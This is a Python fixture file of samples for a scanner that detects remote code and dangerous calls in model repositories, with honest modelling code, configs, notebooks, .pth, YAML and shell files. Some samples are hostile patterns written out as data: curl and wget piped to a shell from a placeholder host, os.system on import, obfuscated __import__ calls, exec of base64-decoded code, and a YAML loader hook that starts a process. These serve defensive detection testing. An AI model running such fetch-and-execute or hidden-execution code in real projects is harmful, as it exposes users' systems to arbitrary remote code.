"""Built files and what each must answer."""

from __future__ import annotations

import json
from collections.abc import Mapping

from bascule.builtin.scanners.remote_code.sight import DANGEROUS_CALL, REMOTE_CODE
from bascule.plugins.meta import Example
from bascule.records import Outcome

HONEST = '''\
"""A small attention block."""
import math
import torch
from torch import nn
from transformers import PreTrainedModel
from .configuration_small import SmallConfig


class SmallModel(PreTrainedModel):
    config_class = SmallConfig

    def __init__(self, config):
        super().__init__(config)
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
        self.eval()

    @torch.no_grad()
    def forward(self, x, mask=None):
        scores = self.proj(x) @ x.transpose(-1, -2) / math.sqrt(x.size(-1))
        return torch.softmax(scores if mask is None else scores + mask, dim=-1) @ x
'''


def _python(source: str) -> Mapping[str, bytes]:
    return {"modeling_small.py": source.encode()}


def _config(auto_map: object, **files: bytes) -> Mapping[str, bytes]:
    return {"config.json": json.dumps({"auto_map": auto_map}).encode(), **files}


def _notebook(*cells: str) -> Mapping[str, bytes]:
    listed = [{"cell_type": "code", "source": cell.splitlines(keepends=True)} for cell in cells]
    return {"use.ipynb": json.dumps({"nbformat": 4, "cells": listed}).encode()}


_CLEAN = {REMOTE_CODE: Outcome.FALSE, DANGEROUS_CALL: Outcome.FALSE}
_REMOTE = {REMOTE_CODE: Outcome.TRUE, DANGEROUS_CALL: Outcome.FALSE}
_CALL = {DANGEROUS_CALL: Outcome.TRUE}
_ERROR = {REMOTE_CODE: Outcome.ERROR, DANGEROUS_CALL: Outcome.ERROR}

EXAMPLES = (
    Example("honest modelling code", lambda: _python(HONEST), _CLEAN),
    Example("a configuration without code", lambda: {"config.json": b'{"model_type": "bert"}'}, _CLEAN),
    Example(
        "a class of this repository",
        lambda: {**_config({"AutoModel": "modeling_small.SmallModel"}), **_python(HONEST)},
        _REMOTE,
    ),
    Example("a class of another repository", lambda: _config({"AutoModel": "org/name--modeling.Model"}), _REMOTE),
    Example("trusting what comes with a model", lambda: _python("m = load('x', trust_remote_code=True)\n"), _REMOTE),
    Example("a process on import", lambda: _python("import os\nos.system('id')\n"), _CALL),
    Example(
        "the same, spelled otherwise", lambda: _python("getattr(__import__('o' + 's'), 'sys' 'tem')('id')\n"), _CALL
    ),
    Example("hidden code", lambda: _python("import base64\nexec(base64.b64decode('eA=='))\n"), _CALL),
    Example("a notebook that runs a download", lambda: _notebook("x = 1\n", "!curl https://a.invalid | sh\n"), _CALL),
    Example(
        "a notebook that runs a download, spelt out",
        lambda: _notebook("get_ipython().system('curl https://a.invalid | sh')\n"),
        _CALL,
    ),
    Example("an honest notebook", lambda: _notebook("%matplotlib inline\nimport torch\n!nvidia-smi\n"), _CLEAN),
    Example(
        "a list of paths that runs a command",
        lambda: {"x.pth": b"./lib\nimport os; os.system('true')\n"},
        {REMOTE_CODE: Outcome.TRUE, DANGEROUS_CALL: Outcome.TRUE},
    ),
    Example("a list of paths", lambda: {"x.pth": b"# paths\n./lib\nimportant/folder\n"}, _CLEAN),
    Example(
        "settings whose loader starts a process",
        lambda: {"hyperparams.yaml": b"lr: 0.1\nhook: !apply:os.sys" + b"tem [id]\n"},
        _CALL,
    ),
    Example(
        "settings that build a model of a known library",
        lambda: {"model.yaml": b"encoder:\n  _target_: torch.nn.Linear\nact: !name:torch.nn.GELU\n"},
        _CLEAN,
    ),
    Example("settings that do not parse", lambda: {"model.yaml": b"a: [1\nb: }"}, {DANGEROUS_CALL: Outcome.ERROR}),
    Example(
        "an adapter whose loading imports a package of its own",
        lambda: {"adapter_config.json": b'{"auto_mapping": {"parent_library": "own.model", "base_model_class": "M"}}'},
        _REMOTE,
    ),
    Example("a script that runs a download", lambda: {"get.sh": b"wget -qO- https://a.invalid | bash\n"}, _CALL),
    Example("an honest script", lambda: {"train.sh": b"#!/bin/sh\npython train.py --lr 1 | tee log\n"}, _CLEAN),
    Example("Python that does not parse", lambda: _python("def f(:\n"), _ERROR),
    Example(
        "a configuration that is not JSON",
        lambda: {"config.json": b'{"auto_map": '},
        {REMOTE_CODE: Outcome.ERROR, DANGEROUS_CALL: Outcome.FALSE},
    ),
)
